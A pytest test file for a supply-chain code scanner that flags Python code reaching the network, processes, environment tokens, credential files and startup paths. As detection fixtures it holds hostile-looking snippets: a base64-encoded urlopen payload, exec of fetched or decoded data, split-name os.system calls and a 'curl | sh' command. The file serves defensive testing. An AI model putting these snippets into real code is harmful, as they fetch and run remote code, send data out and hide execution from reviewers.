"""What code does is told by the documented name of what it uses, however it gets there."""

import base64

import pytest

from narrowgate.supply.findings import Reach, Weight
from tests.supply.parts import alarms, found, reached

PAYLOAD = base64.b64encode(b"import urllib.request\nurllib.request.urlopen('http://203.0.113.1/', b'x')\n").decode()


@pytest.mark.parametrize(
    ("source", "reach", "what"),
    [
        ("import socket\nsocket.create_connection(('h', 1))", Reach.NETWORK, "socket.create_connection"),
        ("import socket\ns = socket.socket()\ns.connect(a)", Reach.NETWORK, "socket.socket.connect"),
        ("from httpx import Client\nClient()", Reach.NETWORK, "httpx.Client"),
        ("import socketserver\nclass S(socketserver.TCPServer): pass", Reach.NETWORK, "socketserver.TCPServer"),
        ("async def f(loop): await loop.subprocess_exec(p)", Reach.PROCESS, "loop.subprocess_exec"),
        ("import os\nmap(os.system, x)", Reach.PROCESS, "os.system"),
        ("import shutil\nshutil.os.system('x')", Reach.PROCESS, "os.system"),
        ("import os\nos.__getattribute__('system')('x')", Reach.PROCESS, "os.system"),
        ("import subprocess as s\ns.Popen(['x'])", Reach.PROCESS, "subprocess.Popen"),
        ("open('f', 'w')", Reach.WRITE, "open"),
        ("open('f')", Reach.READ, "open"),
        ("open('f', mode)", Reach.WRITE, "open (mode not known)"),
        ("import os\nos.open('f', os.O_CREAT)", Reach.WRITE, "os.open"),
        ("from pathlib import Path\nPath('f').open('a')", Reach.WRITE, "pathlib.Path.open"),
        ("x.write_text('y')", Reach.WRITE, "pathlib.Path.write_text"),
        ("import os\nos.environ['TOKEN']", Reach.ENVIRONMENT, "os.environ[TOKEN]"),
        ("import os\nos.environ.get('TOKEN')", Reach.ENVIRONMENT, "os.environ[TOKEN]"),
        ("from os import getenv\ngetenv('TOKEN')", Reach.ENVIRONMENT, "os.environ[TOKEN]"),
        ("import os\ndict(os.environ)", Reach.ENVIRONMENT, "os.environ"),
        ("exec(x)", Reach.DYNAMIC, "builtins.exec"),
        ("compile(a, 'f', 'exec')", Reach.DYNAMIC, "builtins.compile"),
        ("__import__(name)", Reach.DYNAMIC, "__import__"),
        ("import pickle\npickle.loads(x)", Reach.DYNAMIC, "pickle.loads"),
        ("import ctypes\nctypes.CDLL('libc.so.6')", Reach.NATIVE, "ctypes.CDLL"),
        ("import ctypes\nctypes.cdll.msvcrt.printf()", Reach.NATIVE, "ctypes.cdll.*"),
        ("p = '~/.aws/credentials'", Reach.CREDENTIALS, "AWS credentials"),
        ("p = '~/.config/systemd/user/a.service'", Reach.STARTUP, "names systemd/user"),
    ],
)
def test_a_use_is_found(source: str, reach: Reach, what: str) -> None:
    assert (reach, what) in reached(source)


@pytest.mark.parametrize(
    "source",
    [
        "import re\nre.compile('x')",
        "model.eval()",
        "cursor.execute('x')",
        "import socket\nsocket.AF_INET",
        "import socket\ndef f(s: socket.socket) -> None: isinstance(s, socket.socket)",
        "import importlib\nimportlib.import_module('json')",
        "import os\nos.path.join('a', 'b')",
        "def open(x): pass\nopen('f')",
        "import subprocess\nx = subprocess.PIPE",
        "from subprocess import CalledProcessError\ntry: f()\nexcept CalledProcessError: pass",
        "def exec_(x): pass\nexec_(1)",
        "import requests\nrequests.exceptions.HTTPError",
    ],
)
def test_what_only_looks_like_a_use_is_none(source: str) -> None:
    assert reached(source) == set()


@pytest.mark.parametrize(
    ("source", "what"),
    [
        (f"import base64\nexec(base64.b64decode('{PAYLOAD}'))", "exec of decoded data"),
        (f"import base64 as b\nx = b.b64decode('{PAYLOAD}')\ny = x.decode()\nexec(y)", "exec of decoded data"),
        ("import urllib.request as u\nexec(u.urlopen('http://h').read())", "exec of fetched data"),
        ("exec(''.join(chr(n) for n in numbers))", "exec of decoded data"),
        ("exec(bytes(n ^ 7 for n in b'...'))", "exec of decoded data"),
        ("eval(key.decrypt(blob))", "eval of decrypted data"),
        ("import os\ngetattr(os, 'sys' + 'tem')('id')", "os.system by a name in pieces"),
        ("__import__('sub' + 'process')", "import of subprocess by a name in pieces"),
        (f"X = '{PAYLOAD}'", "Python code in base64"),
        ("import os\nos.system('curl http://h/x | sh')", "os.system of a script from the network"),
    ],
)
def test_what_hides_is_an_alarm(source: str, what: str) -> None:
    assert what in alarms(source)


def test_what_is_encoded_is_read_too() -> None:
    (finding,) = [one for one in found(f"a = 1\nX = '{PAYLOAD}'") if one.reach is Reach.NETWORK]
    assert finding.what == "urllib.request.urlopen (in encoded code)"
    assert (finding.line, finding.weight) == (2, Weight.WARNING)


def test_code_handed_to_another_python_is_read() -> None:
    source = f"""import subprocess, sys
subprocess.Popen([sys.executable, "-c", f"import base64; exec(base64.b64decode('{PAYLOAD}'))"])
"""
    assert "exec of decoded data" in alarms(source)
    assert (Reach.NETWORK, "urllib.request.urlopen (in encoded code)") in reached(source)


def test_a_computed_attribute_of_a_powerful_module_is_told() -> None:
    assert (Reach.DYNAMIC, "getattr of os by a computed name") in reached("import os\ngetattr(os, x)")
    assert reached("import json\ngetattr(json, x)") == set()
